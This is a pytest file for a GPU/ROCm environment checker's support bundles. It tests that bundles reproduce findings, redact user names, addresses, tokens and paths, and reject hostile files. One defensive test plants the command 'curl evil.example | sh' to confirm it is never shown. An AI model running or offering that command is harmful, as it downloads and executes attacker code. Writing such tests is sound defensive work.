"""Support bundles: they keep the machine's findings, omit private names, and are safe to open."""

from __future__ import annotations

import base64
import contextlib
import json
import os
import random
import re
import tempfile
from pathlib import Path
from typing import TYPE_CHECKING, Any
from unittest import mock

import pytest
from hypothesis import HealthCheck, Phase, assume, given, settings
from hypothesis import strategies as st

from rocenv.checks import bundle, bundle_fields, run
from rocenv.checks.redact import Redactor
from rocenv.checks.table import CHECKS, Check
from rocenv.core.errors import RocenvError
from rocenv.data.load import load
from rocenv.findings import Observation
from rocenv.home import Home
from rocenv.host import registry, system32
from rocenv.host import windows as host_windows
from rocenv.host.defender import excluded
from rocenv.host.registry import paths_are_limited
from rocenv.host.system32 import names_in
from rocenv.system import machine
from rocenv.system.machine import Answers
from tests.host.roots import Root

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from rocenv.checks.context import CheckContext
    from rocenv.data.rows import Matrix

NVIDIA, RX_6800, RX_7900, RAPHAEL = 0x10DE, 0x73BF, 0x744C, 0x164E


@pytest.fixture(scope="module")
def matrix() -> Matrix:
    return load()


@pytest.fixture
def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Root:
    path = tmp_path / "machine"
    path.mkdir()
    monkeypatch.setenv("ROCENV_SYSROOT", str(path))
    monkeypatch.delenv("ROCENV_TARGET", raising=False)
    monkeypatch.delenv("HSA_OVERRIDE_GFX_VERSION", raising=False)
    return Root(path)


def findings(examined: bundle.Examined) -> list[tuple[str, str, str]]:
    return [(each.check, each.code, each.severity) for each in examined.findings]


def plain(root: Root) -> None:
    root.kernel().cpu().gpu(1, RX_6800, 100300)


def no_device(root: Root) -> None:
    plain(root)
    (root.path / "dev/kfd").unlink()


def igpu_first(root: Root) -> None:
    root.kernel().cpu().gpu(1, RAPHAEL, 100306, units=2).gpu(2, RX_7900, 110000)


def no_driver(root: Root) -> None:
    root.kernel().cpu().card("0000:03:00.0", RX_6800, driver="")


def beside_nvidia(root: Root) -> None:
    root.kernel().cpu().card("0000:09:00.0", 0x2204, vendor=NVIDIA, driver="nvidia")


def wsl(root: Root) -> None:
    root.wsl()


def wsl_with_an_old_driver(root: Root) -> None:
    pnp = r"PCI\VEN_1002&DEV_744C&SUBSYS_0E3B1002&REV_C8"
    root.wsl({"Name": "AMD Radeon RX 7900 XTX", "PNPDeviceID": pnp, "DriverVersion": "32.0.21013.1000"})


def reset(root: Root) -> None:
    plain(root)
    root.put(
        "dev/kmsg", "[ 10.0] amdgpu 0000:01:00.0: amdgpu: GPU reset begin!\n[ 11.0] usb 1-1: new device\n"
    )


def network_cache(root: Root) -> None:
    plain(root)
    home = os.environ["HOME"]
    root.put(
        "proc/self/mountinfo",
        "1 0 8:1 / / rw - ext4 /dev/sda1 rw\n"
        f"2 1 0:50 / {home} rw - nfs4 fileserver:/export rw,addr=10.1.2.3\n",
    )


def windows(root: Root) -> None:
    device = {"Name": "AMD Radeon RX 6800", "gcnArchName": "gfx1030", "totalGlobalMem": "15.98 GB"}
    root.windows(device, controllers=[{"Name": "AMD Radeon RX 6800", "DriverVersion": "32.0.12033.1030"}])


class TestExamine:
    """Checks of a bundle must find the same problems as checks of the machine that it describes."""

    @pytest.mark.parametrize(
        "build",
        [
            plain,
            no_device,
            igpu_first,
            no_driver,
            beside_nvidia,
            wsl,
            wsl_with_an_old_driver,
            reset,
            network_cache,
            windows,
        ],
    )
    def test_checks_find_the_same_problems_in_a_bundle_as_on_its_machine(
        self,
        root: Root,
        matrix: Matrix,
        tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch,
        build: Callable[[Root], None],
    ) -> None:
        monkeypatch.setenv("HOME", "/home/alexandra")
        build(root)
        file = tmp_path / "bundle.json"
        there = bundle.collect(file, Home(tmp_path / "home"), matrix, "en")
        monkeypatch.delenv("ROCENV_SYSROOT")
        monkeypatch.setenv("HOME", "/home/somebody")
        monkeypatch.setenv("HSA_OVERRIDE_GFX_VERSION", "10.3.0")
        here = bundle.examine(file, matrix, "en")
        assert findings(here) == findings(there)
        assert here.checks == there.checks
        assert here.context.host == there.context.host
        assert here.context.elsewhere
        assert not machine.examined_elsewhere(), "rocenv reads this machine again"

    def test_a_sample_machine_has_findings(self, root: Root, matrix: Matrix, tmp_path: Path) -> None:
        igpu_first(root)
        there = bundle.collect(tmp_path / "bundle.json", Home(tmp_path / "home"), matrix, "en")
        assert "igpu_first" in [each.check for each in there.findings]

    def test_a_bundle_includes_what_a_check_observed_on_the_machine(
        self, root: Root, matrix: Matrix, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """The check cannot find the problem in a snapshot, so the bundle contains the observation."""

        def tried(_context: CheckContext) -> Observation | None:
            values = {"check": "locks", "error": "ENOLCK"}
            return None if machine._given else Observation("check_failed", values, ("x",))

        monkeypatch.setattr(run, "CHECKS", (Check("check_failed", tried, "any"),))
        plain(root)
        file = tmp_path / "bundle.json"
        bundle.collect(file, Home(tmp_path / "home"), matrix, "en")
        chinese = bundle.examine(file, matrix, "zh")
        assert [(each.check, each.evidence) for each in chinese.findings] == [("check_failed", ("x",))]
        assert "ENOLCK" in chinese.findings[0].detail
        assert re.search("[一-龥]", chinese.findings[0].title)

    def test_a_user_name_that_is_part_of_a_field_name_changes_no_field(
        self, root: Root, matrix: Matrix, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """Only free text is redacted, so `simd_count` is kept."""
        monkeypatch.setenv("USER", "count")
        monkeypatch.setenv("HOSTNAME", "simd")
        plain(root)
        file = tmp_path / "bundle.json"
        there = bundle.collect(file, Home(tmp_path / "home"), matrix, "en")
        assert bundle.examine(file, matrix, "en").context.host == there.context.host
        assert there.context.host.gpus[0].usable

    def test_only_the_chosen_checks_are_in_a_bundle(self, root: Root, matrix: Matrix, tmp_path: Path) -> None:
        no_device(root)
        file = tmp_path / "bundle.json"
        bundle.collect(file, Home(tmp_path / "home"), matrix, "en")
        assert bundle.examine(file, matrix, "en", names=("igpu_first",)).findings == ()


class TestFile:
    """The bundle file, which is readable and never overwrites an existing file."""

    def test_a_bundle_is_readable_json(self, root: Root, matrix: Matrix, tmp_path: Path) -> None:
        plain(root)
        file = tmp_path / "bundle.json"
        bundle.collect(file, Home(tmp_path / "home"), matrix, "en")
        written = json.loads(file.read_text())
        assert written["files"]["/proc/version"] == "Linux version 6.8.0-45-generic\n"
        assert written["opened"] == {"/dev/kfd": ""}
        assert len(file.read_text().splitlines()) > 20

    def test_collect_does_not_overwrite_a_file(self, root: Root, matrix: Matrix, tmp_path: Path) -> None:
        plain(root)
        file = tmp_path / "thesis.odt"
        file.write_text("years of work")
        link = tmp_path / "link"
        link.symlink_to("nowhere")
        for path in (file, link):
            with pytest.raises(RocenvError, match="already exists"):
                bundle.collect(path, Home(tmp_path / "home"), matrix, "en")
        assert file.read_text() == "years of work"

    def test_collect_into_a_missing_folder_fails(self, root: Root, matrix: Matrix, tmp_path: Path) -> None:
        plain(root)
        with pytest.raises(RocenvError, match="cannot write"):
            bundle.collect(tmp_path / "no" / "bundle.json", Home(tmp_path / "home"), matrix, "en")

    def test_a_variable_that_is_not_on_the_allow_list_is_excluded_even_if_a_check_reads_it(
        self, root: Root, matrix: Matrix, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        def curious(context: CheckContext) -> None:
            for name in variables:
                context.environ.get(name)

        variables = {
            "HF_TOKEN": "hf_abcdef",
            "ROCR_VISIBLE_DEVICES": "0",
            "HIP_VISIBLE_DEVICES": "secret",
            "DIARY": "dear diary",
            "HIP_PATH": "/srv/merger/rocm",
            "LD_LIBRARY_PATH": "/srv/merger/lib:/opt/rocm-6.4.1/lib:/opt/rocm-merger/lib",
        }
        monkeypatch.setattr(bundle, "checks_for", lambda *_: (Check("curious", curious, "any"),))
        for name, value in variables.items():
            monkeypatch.setenv(name, value)
        plain(root)
        file = tmp_path / "bundle.json"
        bundle.collect(file, Home(tmp_path / "home"), matrix, "en")
        listed = bundle.read(file).variables
        assert listed == {"ROCR_VISIBLE_DEVICES": "0", "LD_LIBRARY_PATH": "/opt/rocm-6.4.1/lib"}


NAMES = st.one_of(
    st.from_regex(r"[a-z][a-z0-9_-]{2,14}", fullmatch=True),
    st.text("abcdefghijklmnopqrstuvwxyzäöüßéñłø李明王小红김민준이яюдмитрий", min_size=2, max_size=10),
    st.from_regex(r"[A-Z][a-z]{2,9}\.[A-Z][a-z]{2,9}", fullmatch=True),
)


@st.composite
def secrets(draw: st.DrawFn) -> dict[str, str]:
    """Draw private facts about a machine that occur nowhere else on it."""
    names = draw(st.lists(NAMES, min_size=7, max_size=7, unique_by=str.casefold))
    folded = [name.casefold() for name in names]
    assume(all(len(name) > 3 for name in names))
    assume(not any(one in other for one in folded for other in folded if one != other))
    return private(names, random.Random(draw(st.integers(0, 1 << 32))))


def private(names: list[str], chance: random.Random) -> dict[str, str]:
    def digits(count: int, alphabet: str = "0123456789abcdef") -> str:
        return "".join(chance.choices(alphabet, k=count))

    user, other, host, server, volume, full, project = names
    return {
        "user": user,
        "other": other,
        "host": host,
        "server": f"{server}-{digits(3)}-nas",
        "volume": f"{volume}-{digits(3)}-crypt",
        "project": f"{project}-{digits(3)}-deal",
        "full": f"Zx{digits(3)} {full}qx",
        "mac": "a" + ":".join(digits(2) for _ in range(6))[1:],
        "email": f"{digits(6)}@{digits(5)}.example.net",
        "uuid": "-".join(digits(count) for count in (8, 4, 4, 4, 12)),
        "serial": "SN" + digits(10, "0123456789ABCDEFGH"),
        "unique": "7" + digits(17, "0123456789"),
        "address": ".".join(str(chance.randint(11, 250)) for _ in range(4)),
        "address6": "2001:db8:" + ":".join("f" + digits(3) for _ in range(6)),
        "machine_id": "c" + digits(31),
        "sid": "S-1-5-21-" + "-".join("1" + digits(9, "0123456789") for _ in range(3)),
    }


def haunted(root: Root, who: dict[str, str]) -> list[str]:
    """Plant secrets in every place where a machine has private data; return the paths that checks read."""
    user, other, host, number = who["user"], who["other"], who["host"], who["serial"]
    root.kernel().cpu().gpu(1, RX_6800, 100300, unique_id=int(who["unique"]))
    texts = {
        "etc/passwd": (
            "root:x:0:0:root:/root:/bin/sh",
            f"{user}:x:1000:1000:{who['full']},,,:/home/{user}:/bin/sh",
            f"{other}:x:1001:1001::/home/{other}:/bin/sh",
        ),
        "etc/group": (f"render:x:992:{user},{other}", f"{user}:x:1000:", f"{other}:x:1001:{user}"),
        "etc/hostname": (host,),
        "proc/cmdline": (
            f"BOOT_IMAGE=/vmlinuz root=UUID={who['uuid']} cryptdevice=UUID={who['uuid']}:{who['volume']} "
            f"ip={who['address']} hostname={host} amdgpu.gttsize=1024 iommu=pt",
        ),
        "proc/self/mountinfo": (
            f"1 0 8:1 / / rw - ext4 /dev/mapper/{who['volume']} rw",
            f"2 1 0:50 / /home/{user} rw - nfs4 {who['server']}:/export/{user} rw,addr={who['address']}",
            f"4 1 0:52 / /mnt/{who['project']} rw - ext4 /dev/{who['project']} rw",
            f"3 1 0:51 / /media/{other}/{who['volume']} rw - cifs //{who['server']}/x rw,username={user}",
        ),
        "dev/kmsg": (
            f"[ 1.0] usb 1-1: SerialNumber: {number}",
            f"[ 2.0] amdgpu: serial={number}",
            f"[ 3.0] {host} kernel: amdgpu ethernet {who['mac']} {who['address6']}",
            f"[ 4.0] r8169: {who['mac']}",
            f"[ 5.0] vfio-pci: guest {who['project']}",
            f"[ 6.0] audit: pci name=/srv/{who['project']}/x.pdf comm={who['project']}",
            f"[ 7.0] amdgpu: ring gfx timeout, process {who['project']} pid 77 "
            f"thread {who['project']}:cs0 pid 78",
            f"[ 8.0] amdgpu 0000:01:00.0: [gfxhub0] page fault (src_id:0) for process {who['project']} pid 9",
            f"Nov 20 10:00:00 {who['project']} kernel: [ 9.0] amdgpu: GPU reset begin!",
        ),
        "sys/bus/pci/devices/0000:01:00.0/unique_id": (who["unique"],),
        "sys/class/net/eth0/address": (who["mac"],),
        "etc/machine-id": (who["machine_id"],),
        "etc/ld.so.conf.d/x.conf": (f"/data/{who['project']}/lib",),
        f"data/{who['project']}/lib/libamdhip64.so.6": ("",),
        f"home/{user}/notes-of-{user}.txt": (
            f'{user} {who["email"]} {user.upper()} "{user}\'s" file:///home/{user}/x /home/{other}/y',
            f"https://{user}:pw@{host}.local/ {who['machine_id']} {who['sid']} {who['full']}",
            f"{base64.b64encode(user.encode()).decode()} {user.encode().hex()}",
        ),
        "var/log/application_errors.xml": (
            f"<Event><System><Computer>{host}</Computer><Security UserID='{who['sid']}'/></System>",
            f"<EventData><Data Name='Path'>C:\\Users\\{user}\\a.exe</Data></EventData></Event>",
        ),
    }
    for name, lines in texts.items():
        root.put(name, "\n".join(lines) + "\n")
    return [f"/{name}" for name in texts]


def collected(who: dict[str, str], matrix: Matrix) -> str:
    """Return the bundle of a machine full of secrets, in lower case, after checks read all of its files."""
    with tempfile.TemporaryDirectory() as folder, lived_in(who, Path(folder, "m")):
        root = Root(Path(folder, "m"))
        root.path.mkdir()
        paths = haunted(root, who)

        def reads(context: CheckContext) -> Observation | None:
            for path in paths:
                machine.read_attribute(path)
            machine.list_folder(f"/home/{who['user']}")
            machine.list_folder("/home")
            machine.list_folder(f"/data/{who['project']}/lib")
            machine.mount_of(Path(f"/mnt/{who['project']}/sub"))
            machine.tried("lock", f"/mnt/{who['project']}/{who['project']}", lambda: "", "")
            machine.open_errno(f"/home/{who['user']}/x")
            assert context.environ.get("USER") and context.environ.get("HIP_PATH")
            folders = (f"/srv/{who['project']}/x y/z", f"/home/{who['user']}/{who['project']}")
            lines = (f"{who['user']}@{who['host']}: /mnt/{who['project']}: {who['address']}", *folders)
            return Observation("check_failed", {"check": "reads", "error": folders[1]}, lines)

        checks = (Check("check_failed", reads, "any"), *CHECKS)
        with mock.patch.object(run, "CHECKS", checks):
            file = Path(folder, "bundle.json")
            bundle.collect(file, Home(Path(f"/home/{who['user']}/rocenv")), matrix, "en", names=())
        return file.read_text().casefold()


def spellings(secret: str) -> set[str]:
    quoted = json.dumps(secret)[1:-1]
    return {each.casefold() for each in (secret, secret.upper(), quoted, quoted.replace("\\", "\\\\"))}


@contextlib.contextmanager
def lived_in(who: dict[str, str], path: Path) -> Iterator[None]:
    variables = {
        "ROCENV_SYSROOT": str(path),
        "HOME": f"/home/{who['user']}",
        "USER": who["user"],
        "LOGNAME": who["user"],
        "XDG_CACHE_HOME": f"/home/{who['user']}/cache of {who['user']}",
        "HIP_PATH": f"//{who['address']}/{who['user']}",
        "PATH": f"/srv/{who['project']}/rocm/bin:/opt/{who['project']}/bin:/usr/bin",
        "LD_LIBRARY_PATH": f"/data/{who['project']}/lib:/opt/rocm-{who['project']}/lib",
        "TORCH_HOME": f"/srv/{who['project']}/torch",
        "AMD_ACCOUNT": who["project"],
        "CUDA_PROXY": f"http://{who['user']}:{who['serial']}@{who['server']}:3128",
    }
    with mock.patch.dict(os.environ, variables, clear=True):
        yield


@pytest.fixture(scope="module")
def collecting(matrix: Matrix) -> Callable[[dict[str, str]], str]:
    return lambda who: collected(who, matrix)


@pytest.fixture(scope="module")
def of_nobody(matrix: Matrix) -> str:
    """The bundle of the same machine with a different owner; text that is in both bundles is not secret."""
    names = ["qqqqqa", "qqqqqb", "qqqqqc", "qqqqqd", "qqqqqe", "qqqqqf", "qqqqqg"]
    return collected(private(names, random.Random(1)), matrix)


class TestPrivacy:
    # No shrink phase, because shrinking a failure takes minutes.
    @settings(
        max_examples=40,
        deadline=None,
        suppress_health_check=list(HealthCheck),
        phases=(Phase.generate,),
        derandomize=True,
    )
    @given(who=secrets())
    def test_a_bundle_contains_no_secrets(
        self, of_nobody: str, collecting: Callable[[dict[str, str]], str], who: dict[str, str]
    ) -> None:
        text = collecting(who)
        for name, secret in (who | {"family": who["full"].split()[1]}).items():
            for spelling in spellings(secret) if secret.casefold() not in of_nobody else ():
                assert spelling in of_nobody or spelling not in text, name

    def test_a_bundle_contains_what_checks_need(self, of_nobody: str) -> None:
        for text in ("amdgpu.gttsize=1024", "iommu=pt", "ring gfx timeout, process x pid 0 thread x pid 0"):
            assert text in of_nobody

    def test_only_log_lines_that_checks_need_are_kept(self) -> None:
        log = (
            "[3] nvme 0000:05:00.0: pci function, model Samsung SSD S6B0NL0T123456X\n"
            "[4] vfio-pci: guest 'win11-merger'\n"
            "[5] drm: EDID monitor name DELL U2723QE\n"
            "[6] amdgpu 0000:03:00.0: vgaarb: deactivate vga console\n"
            "[1] Linux version 6.8.0 (alice@desk) #1\n"
            "Nov 20 10:00:00 desk kernel: [2] amdgpu 0000:03:00.0: amdgpu: GPU reset begin!\n"
        )
        for path in ("/var/log/dmesg", "/var/log/kern.log", "/dev/kmsg"):
            kept = bundle_fields.allowed(Answers(files={path: (log, 0)})).files[path]
            assert kept[0] == "Linux version 6.8.0\namdgpu 0000:03:00.0: amdgpu: GPU reset begin!\n"

    def test_only_file_fields_that_checks_need_are_kept(self) -> None:
        files = {
            "/proc/version": "Linux version 6.8 (alice@desk) (gcc)",
            "/etc/os-release": 'ID=ubuntu\nHOME_URL="https://intranet.example"\n',
            "/sys/class/kfd/kfd/topology/nodes/1/properties": "simd_count 96\nunique_id 1234567\n",
            "/var/lib/dpkg/status": "Package: diary\n\nPackage: rocm-core\nMaintainer: A <a@b.org>\n",
            "/windows/video_controllers.json": json.dumps(
                {"Name": "RX", "Owner": "alice", "PNPDeviceID": r"PCI\VEN_1002&DEV_73BF\6&1F1E2D3C&0"}
            ),
            "/etc/passwd": "alice:x:1000:1000::/home/alice:/bin/sh",
            "/home/alice/diary": "dear diary",
            "/proc/self/mountinfo": "1 0 8:1 / /home/alice rw - ext4 /dev/sda1 rw",
        }
        answers = Answers(files={path: (text, 0) for path, text in files.items()})
        kept = {path: text for path, (text, _) in bundle_fields.allowed(answers).files.items()}
        controllers = json.loads(kept.pop("/windows/video_controllers.json"))
        assert controllers == [{"Name": "RX", "PNPDeviceID": r"PCI\VEN_1002&DEV_73BF"}]
        assert kept == {
            "/proc/version": "Linux version 6.8\n",
            "/etc/os-release": "ID=ubuntu\n",
            "/sys/class/kfd/kfd/topology/nodes/1/properties": "simd_count 96\n",
            "/var/lib/dpkg/status": "Package: rocm-core\n",
        }

    def test_only_folder_entries_that_checks_need_are_kept(self) -> None:
        folders = {
            "/opt": (("diary", "rocm-6.4.0", "rocm-merger"), 0),
            "/opt/rocm/lib": (("libamdhip64.so.6", "libdiary.so"), 0),
            "/home": (("alice",), 0),
            "/srv/merger/lib": (("libamdhip64.so.6",), 0),
        }
        kept = bundle_fields.allowed(Answers(folders=folders)).folders
        assert kept == {"/opt": (("rocm-6.4.0",), 0), "/opt/rocm/lib": (("libamdhip64.so.6",), 0)}


class TestRedact:
    @pytest.mark.parametrize(
        ("text", "secret"),
        [
            ("D:\\张三的文件\\sd", "张三"),
            ("/data/liming/x", "liming"),
            ("C:\\Documents and Settings\\Petra\\x", "petra"),
            ("\\\\NAS01\\share\\x", "nas01"),
            ("S/N: 8XK2LP3", "8xk2lp3"),
            ("SerialNumber: 8XK2LP3", "8xk2lp3"),
            ("unique id: 7f3a91c2d5e8b604", "7f3a"),
            ("https://hub/x?a=1&token=abcq", "abcq"),
            ("https://alice:hunter2@hub.org/x", "hunter2"),
            ("hf_abcdefghijklmnop", "abcdef"),
            ("key sk-live-123456", "123456"),
            ("OPENAI_API_KEY=zzz9", "zzz9"),
            ("petra-laptop.fritz.box", "petra"),
            ("proxy.acme.example:3128", "acme"),
            ("uid=1000(petra)", "petra"),
            ("by-id/nvme-Samsung_SSD_S6B0NL0T12", "s6b0"),
            ("mail li.ming@example.net now", "ming"),
            ("10.1.2.3 2001:db8::17", "10.1"),
            ("aa:bb:cc:dd:ee:ff", "bb:cc"),
            ("Li Ming and 张三 at desk-of-li", "ming"),
            ("C:\\Users\\user\\OneDrive - Contoso Ltd\\sd", "contoso"),
            (r"PCI\VEN_1002&DEV_73BF&REV_C1\6&1F1E2D3C&0&00000019", "1f1e2d3c"),
        ],
    )
    def test_secrets_are_redacted(self, text: str, secret: str) -> None:
        redacted = Redactor({"Li Ming": "user", "张三": "user", "desk-of-li": "host"}).text(text)
        assert secret not in redacted.casefold()

    @pytest.mark.parametrize(
        "text",
        [
            "Linux version 6.8.0-45-generic (name@host) (gcc 13.2.0) #1 SMP",
            "/etc/rc.local",
            "https://github.com/ROCm/ROCm",
            "libamdhip64.so.6",
            "amdgpu 0000:03:00.0: ring gfx_0.0.0 timeout, GPU reset(1) failed",
            "/sys/bus/pci/devices /dev/kfd /sys/class/kfd/kfd",
            "DRIVER=amdgpu PCI_ID=1002:73BF",
            '"DriverVersion": "32.0.12033.1030"',
            "/opt/rocm-6.4.0/lib:/usr/lib",
            "C:\\Program Files\\AMD\\ROCm\\5.7\\bin",
            "2026-11-20T10:09:34.1234567Z",
            "amdgpu.ppfeaturemask=0xffffffff",
            "127.0.0.1",
        ],
    )
    def test_facts_about_the_machine_are_kept(self, text: str) -> None:
        assert Redactor({"alexandra": "user", "bo": "user"}).text(text) == text

    def test_a_path_is_reduced_to_its_file_name(self) -> None:
        text = Redactor().text("/srv/merger/a.db: malformed, C:\\merger\\b.dll, /data/my work/ ~/.cache")
        assert text == "…/a.db: malformed, …/b.dll, … ~/.cache"

    def test_a_name_is_redacted_only_as_a_whole_word(self) -> None:
        text = Redactor({"topol": "user", "sim": "user"}).text("topology simd_count topol")
        assert text == "topology simd_count user"


class TestWindows:
    """A Windows machine with private data in its registry and folders."""

    @pytest.fixture
    def text(self, matrix: Matrix, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
        """The bundle of a Windows machine, in lower case."""

        def registered(key: str) -> dict[str, object]:
            if key.endswith("Paths"):
                return {"D:\\merger": 0, "D:\\sd-deal": 0}
            if key.endswith("Environment"):
                return dict(ENVIRONMENT)
            return {"LongPathsEnabled": 0, "Owner": "merger"}

        def listed(folder: str) -> list[str]:
            return ["payroll.dll", "nvcuda.dll"] if "tools" in folder else ["payroll.dll", "amdhip64.dll"]

        def reads(context: CheckContext) -> None:
            assert registry.values("SYSTEM\\Session Manager\\Environment")
            assert paths_are_limited()
            assert excluded("D:\\sd-deal\\rocenv")
            for folder in context.environ["PATH"].split(";"):
                assert names_in(folder)

        monkeypatch.delenv("ROCENV_SYSROOT", raising=False)
        sdk = "C:\\Program Files\\AMD\\ROCm\\5.7\\bin"
        path = f"C:\\Program Files\\merger vpn;D:\\sd-deal\\tools;{sdk};C:\\Windows\\System32"
        monkeypatch.setenv("PATH", path)
        monkeypatch.setenv("HIP_PATH", "D:\\sd-deal\\ROCm\\5.7")
        monkeypatch.setattr(registry, "registered", registered)
        monkeypatch.setattr(system32, "os", mock.Mock(listdir=listed))
        monkeypatch.setattr(machine, "WINDOWS", True)
        monkeypatch.setattr(host_windows, "_adapters", list)
        checks = (Check("reads", reads, "any"),)
        monkeypatch.setattr(bundle, "checks_for", lambda *_: checks)
        file = tmp_path / "bundle.json"
        bundle.collect(file, Home(tmp_path / "home"), matrix, "en")
        return file.read_text().casefold()

    def test_a_windows_bundle_contains_no_secrets(self, text: str) -> None:
        for secret in ("sk-live", "hf_abc", "OPENAI", "HF_TOKEN", "PROXY", "CUSTOMER", "merger", "payroll"):
            assert secret.casefold() not in text
        assert "sd-deal" not in text

    def test_every_library_that_identifies_a_system_folder_is_allowed_in_a_bundle(
        self, matrix: Matrix
    ) -> None:
        names = {file.stands_for for row in matrix.shim_map for file in row.files}
        names |= {name for row in matrix.hip_sdk for name in (*row.runtime, *row.hiprtc)}
        libraries = [name for name in names if name.endswith(".dll")]
        assert len(libraries) > 10
        assert not [name for name in libraries if not system32.IDENTIFYING.fullmatch(name)]

    def test_a_bundle_contains_what_checks_need(self, text: str) -> None:
        for word in ("longpathsenabled", "amdhip64.dll", "rocm\\\\5.7"):
            assert word in text


ENVIRONMENT = {
    "OPENAI_API_KEY": "sk-live-123456",
    "HF_TOKEN": "hf_abc",
    "HTTPS_PROXY": "http://li:pw@proxy.acme.example:3128",
    "CUSTOMER": "merger",
    "HIP_PATH": "D:\\sd-deal\\ROCm\\5.7",
}


def packed(tmp_path: Path, **changes: object) -> Path:
    """Write a bundle that contains one file, with some keys changed."""
    plain = {
        "schema": bundle.SCHEMA,
        "rocenv": "0.1.0",
        "platform": "linux",
        "files": {"/proc/version": "Linux version 6.8"},
    }
    return written(tmp_path, json.dumps(plain | changes))


def written(tmp_path: Path, text: str | bytes) -> Path:
    file = tmp_path / "hostile.json"
    file.write_bytes(text.encode() if isinstance(text, str) else text)
    return file


def refused(file: Path) -> str:
    """Return the reason a file is rejected, and assert that the error has a hint."""
    with pytest.raises(RocenvError) as caught, bundle.opened(file):
        pass
    assert caught.value.hints
    assert not machine.examined_elsewhere()
    return caught.value.message


class TestHostile:
    """Bundles from an attacker."""

    def test_a_valid_bundle_is_read(self, tmp_path: Path) -> None:
        with bundle.opened(packed(tmp_path)):
            assert machine.read_text("/proc/version") == "Linux version 6.8"

    def test_files_that_are_not_bundles_are_rejected(self, tmp_path: Path) -> None:
        assert "does not exist" in refused(tmp_path / "none.json")
        for data in (
            b"",
            b"no json",
            b"PK\x03\x04" + b"\0" * 100,
            os.urandom(5000),
            b"\xff\xfe{",
            b"[]",
            b"1",
        ):
            assert "not a support bundle" in refused(written(tmp_path, data))
        assert "not a regular file" in refused(tmp_path)

    @pytest.mark.skipif(os.name == "nt", reason="no named pipes")
    def test_pipes_and_devices_are_rejected_without_blocking(self, tmp_path: Path) -> None:
        os.mkfifo(tmp_path / "pipe")
        assert "not a regular file" in refused(tmp_path / "pipe")
        assert "not a regular file" in refused(Path("/dev/zero"))

    @pytest.mark.parametrize("schema", [0, 1, 3, "2", None, True, 2.0, [], {}, 10**50])
    def test_a_bundle_with_a_different_schema_is_rejected(self, tmp_path: Path, schema: object) -> None:
        assert "schema" in refused(packed(tmp_path, schema=schema))

    @pytest.mark.parametrize(
        "changes",
        [
            {"platform": "amiga"},
            {"platform": []},
            {"files": "x"},
            {"files": {"/proc/version": 1}},
            {"opened": {"/dev/kfd": 2}},
            {"folders": {"/": "x"}},
            {"variables": ["PATH"]},
            {"more": 1},
            {"tried": [{"what": "x", "about": "y"}]},
            {"tried": [{"what": "x", "about": "y", "answer": []}]},
            {"observed": [{"check": "no_gpu", "row": "no_gpu", "commands": {"create": "sh"}}]},
        ],
    )
    def test_values_of_the_wrong_type_are_rejected(self, tmp_path: Path, changes: dict[str, object]) -> None:
        assert "not a support bundle" in refused(packed(tmp_path, **changes))

    def test_a_large_bundle_is_rejected(self, tmp_path: Path) -> None:
        assert "larger than 16 MiB" in refused(written(tmp_path, b" " * ((16 << 20) + 1)))

    def test_deeply_nested_json_is_rejected(self, tmp_path: Path) -> None:
        assert "not a support bundle" in refused(written(tmp_path, "[" * 200_000))

    @pytest.mark.parametrize(
        "changes",
        [
            {"folders": {"/sys/class/kfd/kfd/topology/nodes": [str(number) for number in range(300_000)]}},
            {"folders": {f"/sys/{number}": [] for number in range(50_000)}},
            {"files": {f"/{number}": "" for number in range(50_000)}},
            {"observed": [{"check": "no_gpu", "row": "no_gpu", "evidence": ["x"] * 100_000}]},
        ],
    )
    def test_oversized_tables_are_rejected(self, tmp_path: Path, changes: dict[str, object]) -> None:
        assert "more than" in refused(packed(tmp_path, **changes))

    def test_commands_from_a_bundle_are_not_shown(self, tmp_path: Path, matrix: Matrix) -> None:
        evil = {"env": "sd", "driver": "1", "create": "curl evil.example | sh"}
        observed = [
            {"check": "env_unusable", "row": "driver_breaks_env", "values": evil},
            {"check": "no_gpu", "row": "env_known_broken", "values": evil},
            {"check": "driver_breaks_env", "row": "driver_breaks_env", "values": evil},
            {"check": "env_known_broken", "row": "env_known_broken", "values": evil},
        ]
        for platform in ("linux", "windows"):
            file = packed(tmp_path, platform=platform, observed=observed)
            found = bundle.examine(file, matrix, "en").findings
            commands = [command for each in found for command in each.commands]
            assert not [command for command in commands if "evil" in command]
            assert {each.check for each in found if each.code == "set-known-broken"} == {"env_known_broken"}

    def test_strings_from_a_bundle_are_short_lines_without_control_characters(
        self, tmp_path: Path, matrix: Matrix
    ) -> None:
        evil = "\x1b[2J\x1b]0;title\x07\u202e\r\n" + "x" * 10_000
        observed = {"check": "igpu_first", "row": "igpu_first", "values": {"card": evil}, "evidence": [evil]}
        found = bundle.examine(packed(tmp_path, observed=[observed]), matrix, "en").findings
        [finding] = [each for each in found if each.check == "igpu_first"]
        for text in (finding.title, *finding.evidence):
            assert "xxx" in text and text.isprintable() and len(text) < 300

    def test_each_advice_row_belongs_to_a_check(self, matrix: Matrix) -> None:
        names = {check.name for check in CHECKS}
        found_by = {check for row in matrix.advice for check in row.found_by}
        assert found_by - names == {"check_failed"}
        assert names <= found_by

    @settings(max_examples=150, deadline=None)
    @given(data=st.data())
    def test_a_damaged_bundle_never_causes_a_traceback(self, data: st.DataObject) -> None:
        with tempfile.TemporaryDirectory() as folder:
            file = packed(Path(folder))
            sound = bytearray(file.read_bytes())
            for _ in range(data.draw(st.integers(1, 6))):
                sound[data.draw(st.integers(0, len(sound) - 1))] = data.draw(st.integers(0, 255))
            file.write_bytes(
                sound[: data.draw(st.integers(0, len(sound)))] if data.draw(st.booleans()) else sound
            )
            with contextlib.suppress(RocenvError), bundle.opened(file):
                machine.read_text("/proc/version")
            assert not machine.examined_elsewhere()

    def test_invalid_values_in_a_bundle_do_not_crash_checks(self, tmp_path: Path, matrix: Matrix) -> None:
        changes: dict[str, Any] = {
            "variables": {"HOME": "\0", "LD_LIBRARY_PATH": ":::", "HIP_PATH": "%s" * 1000},
            "opened": {"/dev/kfd": "__name__"},
            "errors": {"/sys": "ENOSUCHERROR"},
            "folders": {"/sys/class/kfd/kfd/topology/nodes": ["0", "9" * 400, "../..", "\0"]},
